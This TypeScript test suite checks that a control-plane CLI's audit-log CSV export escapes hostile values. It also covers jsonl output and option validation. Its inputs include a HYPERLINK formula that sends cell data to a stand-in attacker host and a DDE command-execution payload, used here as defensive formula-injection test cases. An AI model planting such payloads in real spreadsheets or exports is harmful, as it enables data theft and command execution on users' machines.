// `audit --format csv` of entries holding hostile values (docs/control-plane.md, "The audit log"): a
// target, an operator's source or a detail with quotes, commas, line breaks, or a leading =, +, -,
// @ (a spreadsheet formula: `=HYPERLINK(...)`, `@SUM(...)`, `-cmd|' /C calc'!A0`) comes out as one
// quoted field, read back by an RFC 4180 parser as the same text, formulas with a leading ' so
// that no spreadsheet runs them. `--format jsonl` is one JSON object a line; `--since` takes an
// ISO time. Bad --format values are refused.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { auditCsv, csvField } from '../../src/control/audit/export-audit.js';
import { recordAudit } from '../../src/control/audit/record-audit.js';
import { openSqliteStore } from '../../src/control/store/sqlite/open-sqlite-store.js';
import { REPO } from '../helpers/host.js';

const BIN = path.join(REPO, 'bin', 'steward-control.js');
let dir = '';
let db = '';
const T = Date.parse('2026-11-30T12:00:00Z');

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', "-2+3", '@SUM(A1:A9)', '\tTAB', 'a "quoted", comma\nand a newline\r\nand CRLF', 'plain'];

function cli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [BIN, '--db', db, ...args], { env: { ...process.env, DEBUG: '' } }, (err, stdout, stderr) => resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }));
  });
}

// RFC 4180: fields quoted or not, "" inside quotes a quote, CRLF between records.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  assert.equal(row.length + field.length, 0, 'the text ends with a record');
  return rows;
}

before(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'steward-audit-csv-'));
  db = path.join(dir, 'control.db');
  assert.equal((await cli('init')).code, 0);
  let now = T;
  const store = openSqliteStore(db, { clock: { now: () => now } });
  try {
    await store.write((tx) => recordAudit(tx, { operator: 'old', source: null }, 'test.old', 'before the cut'));
    now = T + 3_600_000;
    for (const v of HOSTILE) await store.write((tx) => recordAudit(tx, { operator: `op${v}`, source: v }, 'test.hostile', v, { value: v }));
  } finally {
    await store.close();
  }
});
after(() => rmSync(dir, { recursive: true, force: true }));

test('a formula, a quote, a comma or a line break is one quoted field; a formula gets a leading quote', () => {
  assert.equal(csvField('=1+1'), `"'=1+1"`);
  assert.equal(csvField('@x'), `"'@x"`);
  assert.equal(csvField('+x'), `"'+x"`);
  assert.equal(csvField('-x'), `"'-x"`);
  assert.equal(csvField('\tx'), `"'\tx"`);
  assert.equal(csvField('a"b'), '"a""b"');
  assert.equal(csvField('a,b\nc'), '"a,b\nc"');
  assert.equal(csvField(''), '""');
  assert.equal(auditCsv([]), '"id","at","operator","action","target","source","details"\r\n');
});

test('audit --format csv: every hostile value reads back as itself, less its formula, in the column it belongs to', async () => {
  const r = await cli('audit', '--format', 'csv', '--since', '2026-11-30T12:30:00Z');
  assert.equal(r.code, 0, r.stderr);
  const rows = parseCsv(r.stdout);
  assert.deepEqual(rows[0], ['id', 'at', 'operator', 'action', 'target', 'source', 'details']);
  const body = rows.slice(1);
  assert.equal(body.length, HOSTILE.length, 'the entry before --since is left out, and no value split a record');
  const neutral = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
  for (const [i, v] of HOSTILE.entries()) {
    const row = body[i] as string[];
    assert.equal(row.length, 7);
    assert.deepEqual([row[1], row[2], row[3], row[4], row[5]], [new Date(T + 3_600_000).toISOString(), `op${v}`, 'test.hostile', neutral(v), neutral(v)]);
    assert.deepEqual(JSON.parse(row[6] as string), { value: v });
  }
  for (const row of body) for (const f of row) assert.doesNotMatch(f, /^[=+\-@\t\r]/, 'no field starts a formula');
});

test('audit --format jsonl: one JSON object a line, as --json has them, with the time in ISO', async () => {
  const r = await cli('audit', '--format', 'jsonl', '--since', '2026-11-30');
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.split('\n');
  assert.equal(lines.pop(), '');
  assert.equal(lines.length, HOSTILE.length + 1);
  const first = JSON.parse(lines[0] as string);
  assert.deepEqual([first.action, first.time], ['test.old', '2026-11-30T12:00:00.000Z']);
  assert.deepEqual(lines.slice(1).map((l) => JSON.parse(l).target), HOSTILE);
});

test('a bad --format or --since, or --format with --json, is refused USAGE', async () => {
  for (const args of [['--format', 'xlsx'], ['--format', 'csv', '--json'], ['--since', '2026-13-45T00:00:00Z'], ['--since', '2026-11-30T12:00:00'], ['--since', 'yesterday']]) {
    const r = await cli('audit', ...args);
    assert.equal(r.code, 2, `${args.join(' ')}: ${r.stdout}${r.stderr}`);
    assert.match(r.stdout + r.stderr, /USAGE: .*(--format|--since)|"code": "USAGE"/);
  }
});
